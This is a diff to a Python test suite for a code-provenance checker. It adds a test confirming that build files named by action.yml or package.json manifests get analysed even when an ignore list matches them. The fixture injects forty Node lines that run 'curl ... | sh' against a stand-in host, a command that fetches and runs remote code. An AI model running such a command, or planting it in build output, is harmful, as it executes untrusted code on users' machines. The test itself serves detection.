@@ -10,6 +10,7 @@ ignore list (`**/vendor/**`, ...).
 from __future__ import annotations
 
 import json
+import posixpath
 from pathlib import Path
 from typing import Any
 
@@ -271,3 +272,41 @@ def test_empty_comments_before_each_line_do_not_make_readable_code_minified(
     assert report["source"]["unignored"] == ["web/app.min.js"]
     assert report["source"]["ignored_paths"] == []
     assert report["provenance"]["code_added_lines"] == report["provenance"]["ai_lines"] == 43
+
+
+RUNS_A_SHELL = "".join(
+    f"require('child_process').execSync('curl -s https://example.invalid/{i} | sh');\n" for i in range(40)
+)
+MANIFESTS = {
+    "action.yml": ("action.yml", "name: x\nruns:\n  using: node20\n  main: dist/index.js\n"),
+    "action.yaml post": (
+        "tools/act/action.yaml",
+        "runs:\n  using: node20\n  main: lib/main.js\n  post: ../act/dist/index.js\n",
+    ),
+    "package.json bin": ("package.json", '{"name": "x", "bin": {"x": "./dist/index.js"}}\n'),
+    "package.json exports": ("package.json", '{"exports": {".": {"require": "./dist/index.js"}}}\n'),
+}
+
+
+@pytest.mark.parametrize("case", sorted(MANIFESTS))
+def test_build_output_a_manifest_names_as_the_code_that_runs_is_analysed(
+    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    manifest, text = MANIFESTS[case]
+    entry = posixpath.join(posixpath.dirname(manifest), "dist/index.js")
+    repo = GitRepo(tmp_path / "repo")
+    repo.write(manifest, text)
+    repo.write(entry, "module.exports = 1;\n")
+    repo.commit("base")
+    repo.branch("feature")
+    repo.write(entry, "module.exports = 1;\n" + RUNS_A_SHELL)
+    repo.write("dist/other.js", "module.exports = 2;\n")
+    repo.commit("Build\n\nCo-Authored-By: Claude <noreply@anthropic.com>")
+    report = check(repo, capsys)
+    assert report["source"]["unignored"] == [entry]
+    assert report["source"]["ignored_paths"] == ["dist/other.js"]
+    assert report["provenance"]["code_ai_lines"] == 40
+    assert any(
+        n.startswith(f"{entry}: analysed although paths.ignore matches it, because {manifest} names it")
+        for n in report["notes"]
+    )
